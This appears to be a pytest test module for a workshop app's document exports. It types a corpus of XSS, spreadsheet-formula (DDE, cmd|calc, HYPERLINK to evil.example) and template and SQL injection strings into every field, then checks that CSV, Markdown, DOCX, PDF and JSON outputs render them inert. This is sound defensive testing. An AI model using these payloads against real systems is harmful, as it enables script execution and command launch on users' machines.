"""Exports safe to open: the classic XSS and spreadsheet-formula payloads, typed into every field
an export shows, come out of every format as text that runs nothing (OWASP's CSV injection and
XSS guidance). Each output is parsed the way its reader would: the csv module, a CommonMark
renderer, python-docx, pypdf, json, and an HTML parser for the page the PDF is printed from."""

import copy
import csv
import io
import json
import re

import lxml.html
import pytest
from docx import Document
from flask import render_template
from markdown_it import MarkdownIt
from pypdf import PdfReader

from coprod.domain.errors import InvalidInput
from coprod.exports import formats, wording
from coprod.services import cards, documents, exports, outlines, participants, workshops
from coprod.services.workshops import WorkshopDetails

from ..factories import actor_of, join, make_user, set_phase
from .test_outlines import BuildRoom

# The 38 classic payloads, and a few more: script and event-handler HTML, javascript: and data:
# links in HTML and in Markdown, spreadsheet formulas (DDE, HYPERLINK, the four leading
# characters, after a tab or a line break), CSV quoting, Markdown that makes HTML, templates,
# right-to-left override, emoji.
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<!-- hidden --><b>bold</b>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://evil.example/pixel.png)",
    "<javascript:alert(1)> and <https://evil.example>",
    "[ref]: javascript:alert(1)",
    "&#106;avascript:alert(1) &lt;script&gt;",
    "**bold** _em_ `code` ~~gone~~ | pipe",
    "[a safe link](https://example.org/a_b)",
    '=HYPERLINK("https://evil.example?x="&A1,"Click for help")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    '"quoted, with a comma", and ""double"" quotes',
    "first line\nsecond line\r\n=third line",
    "{{7*7}} ${7*7} {% raw %}",
    "\u202eexe.gnp\u202c harmless",
    "Helps families \U0001F469\u200d\U0001F469\u200d\U0001F467 feel heard \U0001F331",
    "' OR '1'='1",
    "A" * 5000,
]
# Refused where people type them: they cannot be stored or shown as typed.
REFUSED_AT_INPUT = ["NUL \x00 inside", "lone \ud800 surrogate", "bell \x07 inside", "A" * 5000]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
RUNS_NOTHING = {"html", "head", "body", "p", "h1", "h2", "h3", "table", "thead", "tbody", "tr",
                "th", "td", "strong", "a", "br"}


def typed_everywhere(document: dict, text: str) -> dict:
    """The document with `text` in every field someone typed: the workshop, each outline and
    its lines, names, groups, notes."""
    document = copy.deepcopy(document)
    document["workshop"].update(title=text, venue=text)
    for outline in document["outlines"]:
        outline.update(title=text, agreed_by=text, agreed_note=text)
        outline["details"].update(title=text, setting=text, purpose=text, reporting_lines=text)
        for section in outline["sections"]:
            for item in section["items"]:
                item.update(text=text, original_text=text, proposed_by=[text, text])
                for group in item["support"]:
                    group["group"] = text
    statement = document["statement"]
    for row in statement["participants"] + statement["cards_proposed"] + \
            statement["items_adopted"]["by_constituency"]:
        row["constituency"] = text
    for row in statement["support"] + statement["divisive"]:
        row.update(role=text, text=text)
    return document


def shown(text: str) -> str:
    """What a reader should see of the text: its words, white space as single spaces, a safe
    link as its words."""
    text = re.sub(r"(?<!!)\[([^\]]*)\]\(https?://[^)\s]*\)", r"\1", text)
    return " ".join(text.split())


@pytest.fixture(scope="module")
def document(module_app):
    """A signed-off outline with an agreed and a divisive line, the statement filled in."""
    room = BuildRoom()
    room.start("Navigator")
    room.change("Navigator", 1, kind="add_card", section="responsibilities", card_id=room.cards[0])
    room.change("Navigator", 2, kind="add_card", section="competences", card_id=room.cards[1])
    outlines.sign_off(room.boss, room.workshop_id, room.roles["Navigator"], 3, "Agreed")
    from coprod.extensions import db
    from coprod.models import Workshop
    workshop = db.session.get(Workshop, room.workshop_id)
    chosen = [(role, version) for role, version in outlines.outline_roles(room.workshop_id)
              if version]
    built = documents.build(workshop, chosen)
    assert built["statement"]["divisive"] and built["outlines"][0]["agreed_by"]
    return built


# ---- one check per format: what its reader would run, nothing of it -----------------------

def check_csv(data: bytes, text: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, *body = rows
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_START)]
    texts = [row[header.index("text")] for row in body if row[0] == "item"]
    expected = "'" + text if text.lstrip(" ").startswith(FORMULA_START) else text
    assert texts and set(texts) == {expected}  # every line kept, whole, as text
    versions = [row[header.index("version")] for row in body if row[0] == "item"]
    assert all(version.isdigit() for version in versions)  # numbers stay numbers
    assert re.search(rb',\d+,"(draft|agreed)",', data)  # the version, unquoted


def check_markdown(data: bytes, text: str) -> None:
    source = data.decode("utf-8")
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(source)
    page = lxml.html.fromstring(f"<html><body>{html}</body></html>")
    tags = {element.tag for element in page.iter() if isinstance(element.tag, str)}
    assert tags <= RUNS_NOTHING, tags - RUNS_NOTHING
    for element in page.iter():
        assert not [name for name in element.attrib if name != "href"]
        href = element.get("href")
        assert href is None or re.match(r"https?://", href), href
    assert shown(text) in " ".join(page.text_content().split())


WORD_ACTIVE = ("w:hyperlink", "w:fldSimple", "w:instrText", "w:fldChar", "w:object", "w:altChunk")


def check_docx(data: bytes, text: str) -> None:
    document = Document(io.BytesIO(data))
    xml = document.element.xml
    assert not [tag for tag in WORD_ACTIVE if f"<{tag}" in xml]
    assert not document.part.rels or all(
        "hyperlink" not in rel.reltype for rel in document.part.rels.values())
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    words = " ".join(" ".join(p.text for p in document.paragraphs).split() + " ".join(cells).split())
    assert shown(text.replace("[", "").replace("]", "")) in \
        words.replace("[", "").replace("]", "") or shown(text) in words


def check_pdf(data: bytes, *texts: str) -> None:
    assert not [word for word in (b"/JavaScript", b"/JS ", b"/Launch", b"/SubmitForm", b"/EmbeddedFile")
                if word in data]
    reader = PdfReader(io.BytesIO(data))
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A") or {}
            uri = action.get("/URI")
            assert uri is None or re.match(r"https?://", uri), uri
    # (pypdf reads some of WeasyPrint's fonts as UTF-16: drop the NULs that leaves)
    extracted = "".join("".join(page.extract_text() for page in reader.pages).split())
    extracted = extracted.replace("\x00", "")
    for text in texts:
        if text.isascii() and text.isprintable():
            assert "".join(text.split())[:60] in extracted


def check_json(data: bytes, text: str) -> None:
    document = json.loads(data)
    assert document["workshop"]["title"] == text  # data, kept exactly: nothing to run
    assert document["outlines"][0]["sections"][0]["items"][0]["text"] == text


def check_print_page(document: dict, text: str) -> None:
    """The HTML the PDF is printed from (the outline page's own macros)."""
    page = lxml.html.fromstring(render_template("outlines/print.html", document=document,
                                                wording=wording))
    assert not page.xpath("//script | //iframe | //img | //object | //embed | //style | //svg")
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        assert not [name for name in element.attrib if name.lower().startswith("on")]
        for name in ("href", "src"):
            assert element.get(name) is None or re.match(r"https?://", element.get(name))
    assert shown(text) in " ".join(page.text_content().split())


CHECKS = {"csv": check_csv, "md": check_markdown, "docx": check_docx, "pdf": check_pdf,
          "json": check_json}  # a PDF is printed from the page check_print_page reads


def test_every_format_is_checked():
    assert set(CHECKS) == set(formats())


@pytest.mark.parametrize("text", CORPUS, ids=range(len(CORPUS)))
def test_typed_payloads_run_nothing_in_any_export(document, module_app, text):
    typed = typed_everywhere(document, text)
    with module_app.test_request_context():
        for name, fmt in formats().items():
            if name != "pdf":  # a PDF takes a second or two: all payloads go in one, below
                CHECKS[name](fmt.render(typed), text)
        check_print_page(typed, text)


def test_one_pdf_holding_every_payload_runs_nothing(document, module_app):
    """Every payload as a line of its own, the first one in every other field."""
    typed = typed_everywhere(document, CORPUS[0])
    for outline in typed["outlines"]:
        for section in outline["sections"][:1]:
            section["items"] = [dict(section["items"][0], text=text, original_text=None)
                                for text in CORPUS[:-1]]  # the 5,000 As would fill pages
    with module_app.test_request_context():
        data = formats()["pdf"].render(typed)
    check_pdf(data, *CORPUS[:-1])


# ---- the same through the services people use: ideas, outline lines, names, titles ---------

def test_payloads_typed_in_the_room_come_out_inert_and_unstorable_ones_are_refused(app):
    owner = make_user(name="=HYPERLINK(\"https://evil.example\",\"Sign\")")
    boss = actor_of(owner)
    workshop_id = workshops.create_workshop(boss, WorkshopDetails(
        "<script>alert(1)</script> =1+1", __import__("datetime").date(2027, 3, 14),
        "[venue](javascript:alert(1))"), "=cmd|' /C calc'!A0\n<img src=x onerror=alert(1)>\nStaff",
        ["navigator"], [])
    set_phase(owner, workshop_id, "contribute")
    phone = participants.actor_for(join(workshop_id, "=cmd|' /C calc'!A0", nickname="@SUM(1+1)"))
    role_id = outlines.outline_roles(workshop_id)[0][0].id
    version = outlines.ensure_outline(boss, workshop_id, role_id)["number"]
    version = outlines.change(boss, workshop_id, role_id, version, {
        "kind": "update_fields", "changes": {"title": "<svg onload=alert(1)> -2+3"}})["number"]
    stored = [text for text in CORPUS if len(text) <= 280]
    for text in stored:
        card = cards.add_card(phone, workshop_id, "responsibility", text)["card"]
        version = outlines.change(boss, workshop_id, role_id, version, {
            "kind": "add_card", "section": "responsibilities", "card_id": card["id"]})["number"]
        version = outlines.change(boss, workshop_id, role_id, version, {
            "kind": "add_text", "section": "values", "text": text[:400]})["number"]
    for text in REFUSED_AT_INPUT:
        with pytest.raises(InvalidInput) as refused:
            cards.add_card(phone, workshop_id, "responsibility", text)
        message = refused.value.message
        assert refused.value.field == "text" and ("cannot show" in message or "up to 280" in message)
    outlines.sign_off(boss, workshop_id, role_id, version, "[note](data:text/html,x) =1+1")

    for name in formats():
        data = exports.export(boss, workshop_id, name).data
        if name == "csv":
            cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
            assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_START)]
            assert "'=cmd|' /C calc'!A0" in " ".join(cells)
        elif name == "md":
            check_markdown(data, "<svg onload=alert(1)> -2+3")
            check_markdown(data, "<script>alert(1)</script> =1+1")
        elif name == "docx":
            check_docx(data, "<svg onload=alert(1)> -2+3")
        elif name == "pdf":
            check_pdf(data, "<svg onload=alert(1)> -2+3")
        else:
            assert json.loads(data)["outlines"][0]["title"] == "<svg onload=alert(1)> -2+3"
